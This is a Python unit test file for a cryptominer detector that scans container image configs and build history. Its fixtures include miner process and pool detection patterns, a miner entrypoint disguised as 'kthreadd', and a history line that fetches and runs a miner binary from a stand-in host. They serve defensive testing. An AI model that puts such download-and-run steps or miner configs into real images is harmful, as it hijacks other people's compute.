"""Detection over image configs and history (minerguard.domain.detection.image, signals.imageConfig)."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from minerguard.domain.detection import evaluate, spec_findings
from minerguard.domain.detection.image import effective, instruction
from minerguard.domain.oci import ImageConfig, parse_config
from minerguard.domain.policy import Policy, parse_policy
from minerguard.domain.workload import ContainerView, Workload, workload_from_pod

pytestmark = pytest.mark.unit

WALLET = "4" + ("AbCdEfGh" * 12)[:94]

SIGNALS: dict[str, Any] = {
    "processes": [{"glob": "xmrig*"}, {"glob": "kdevtmpfsi"}],
    "pools": {"schemes": ["stratum+tcp"], "hosts": [{"glob": "*.supportxmr.com"}]},
    "wallets": {"monero": True},
    "imageConfig": True,
}


def policy(image_config: bool = True) -> Policy:
    body = {"mode": "Enforce", "actions": [{"name": "quarantine"}], "signals": {**SIGNALS, "imageConfig": image_config}}
    return parse_policy({"metadata": {"name": "p"}, "spec": body})


def config_blob(**config: Any) -> bytes:
    history = config.pop("history", [])
    return json.dumps({"architecture": "amd64", "os": "linux", "config": config, "history": history}).encode()


def workload(config: ImageConfig | None, **container: Any) -> Workload:
    wl = workload_from_pod(
        {
            "metadata": {"name": "x", "namespace": "apps"},
            "spec": {"containers": [{"name": "c", "image": "r/x:1", **container}]},
        }
    )
    return replace(wl, containers=tuple(replace(c, image_config=config) for c in wl.containers))


def details(p: Policy, wl: Workload) -> list[str]:
    return [e.detail for e in spec_findings(p, wl)]


MINER_ENTRYPOINT = parse_config(
    config_blob(Entrypoint=["/usr/bin/kthreadd", "-o", "stratum+tcp://pool.supportxmr.com:3333"], Cmd=["--threads=2"])
)


def test_entrypoint_from_the_image_is_read_and_named() -> None:
    wl = workload(MINER_ENTRYPOINT)
    found = details(policy(), wl)
    assert "pool URL stratum+tcp://pool.supportxmr.com:3333 in image config Entrypoint" in found
    assert evaluate(policy(), wl, {}).matched


def test_a_policy_without_image_config_reads_the_spec_only() -> None:
    wl = workload(MINER_ENTRYPOINT)
    assert details(policy(False), wl) == []
    assert not evaluate(policy(False), wl, {}).matched


def test_pod_command_overrides_entrypoint_and_drops_cmd_like_kubernetes() -> None:
    cfg = parse_config(config_blob(Entrypoint=["xmrig"], Cmd=["-o", "stratum+tcp://a.supportxmr.com:1"]))
    base = ContainerView(kind="container", name="c", command=("nginx",))
    eff = effective(base, cfg)
    assert eff.command == ("nginx",) and eff.args == () and eff.command_from == "command"
    only_args = effective(replace(base, command=(), args=("-g",)), cfg)
    assert only_args.command == ("xmrig",) and only_args.command_from == "image config Entrypoint"
    assert only_args.args == ("-g",) and only_args.args_from == "args"
    neither = effective(replace(base, command=()), cfg)
    assert neither.args_from == "image config Cmd"
    # The pod's own command hides the image's miner: nothing is found.
    assert details(policy(), workload(cfg, command=["nginx"])) == []


def test_env_merges_with_the_pod_env_winning() -> None:
    cfg = parse_config(config_blob(Env=["POOL=stratum+tcp://x.supportxmr.com:3333", "PATH=/usr/bin"]))
    found = details(policy(), workload(cfg))
    assert any("in image config Env POOL" in d for d in found)
    assert details(policy(), workload(cfg, env=[{"name": "POOL", "value": "db:5432"}])) == []


def test_env_carrying_an_xmrig_json_config() -> None:
    miner = {"pools": [{"url": "gulf.supportxmr.com:443", "user": WALLET}], "cpu": {"enabled": True}}
    cfg = parse_config(config_blob(Env=[f"CONFIG={json.dumps(miner)}"], Entrypoint=["/app/start"]))
    found = spec_findings(policy(), workload(cfg))
    assert {e.signal for e in found} >= {"poolHost", "wallet"}
    assert any(e.signal == "wallet" and e.strength == "Strong" for e in found)


@pytest.mark.parametrize(
    ("created_by", "expected"),
    [
        ('/bin/sh -c #(nop)  CMD ["nginx"]', ("CMD", '["nginx"]')),
        ("/bin/sh -c apt-get update", ("RUN", "apt-get update")),
        ("RUN /bin/sh -c wget x && ./y # buildkit", ("RUN", "wget x && ./y")),
        ("RUN |2 A=1 B=2 /bin/sh -c make", ("RUN", "make")),
        ("ENV A=b", ("ENV", "A=b")),
        ("COPY config.json /etc/ # buildkit", ("COPY", "config.json /etc/")),
        ("/bin/sh -c #(nop) ADD file:abc in / ", ("ADD", "file:abc in /")),
        ("wget http://x", ("RUN", "wget http://x")),
    ],
)
def test_history_instructions(created_by: str, expected: tuple[str, str]) -> None:
    assert instruction(created_by) == expected


def test_history_step_that_downloads_and_runs_a_miner_is_named() -> None:
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:1 in / "},
        {"created_by": '/bin/sh -c #(nop)  CMD ["sh"]', "empty_layer": True},
        {
            "created_by": "RUN /bin/sh -c wget -qO /usr/bin/kdevtmpfsi https://x.example/k"
            " && kdevtmpfsi --help # buildkit"
        },
    ]
    cfg = parse_config(config_blob(Entrypoint=["/docker-entrypoint.sh"], history=history))
    found = details(policy(), workload(cfg))
    assert found and all("image history step 3: RUN wget" in d for d in found), found


def test_labels_and_working_dir_are_read() -> None:
    cfg = parse_config(config_blob(Labels={"pool": "stratum+tcp://l.supportxmr.com:80"}, WorkingDir="/opt"))
    assert any("image config Labels pool" in d for d in details(policy(), workload(cfg)))


def test_benign_look_alikes_are_not_matched() -> None:
    pause = parse_config(
        config_blob(
            Entrypoint=["/pause"],
            history=[{"created_by": "ARG ARCH"}, {"created_by": "ADD bin/pause-linux-amd64 /pause # buildkit"}],
        )
    )
    nginx = parse_config(
        config_blob(
            Entrypoint=["/docker-entrypoint.sh"],
            Cmd=["nginx", "-g", "daemon off;"],
            Env=["NGINX_VERSION=1.25.3", "PATH=/usr/local/sbin:/usr/bin"],
            Labels={"maintainer": "NGINX Docker Maintainers <docker-maint@nginx.com>"},
            history=[{"created_by": "RUN /bin/sh -c set -x && apt-get update && apt-get install -y nginx # buildkit"}],
        )
    )
    for cfg in (pause, nginx):
        assert not evaluate(policy(), workload(cfg), {}).matched


def test_hostile_configs_parse_bounded_or_empty() -> None:
    assert parse_config(b'{"config": [], "history": "x"}') == ImageConfig()
    cfg = parse_config(json.dumps({"config": {"Env": ["A=" + "x" * 200_000], "Cmd": [1, "a"]}}).encode())
    assert len(cfg.env[0][1]) <= 65536 and cfg.cmd == ("a",)
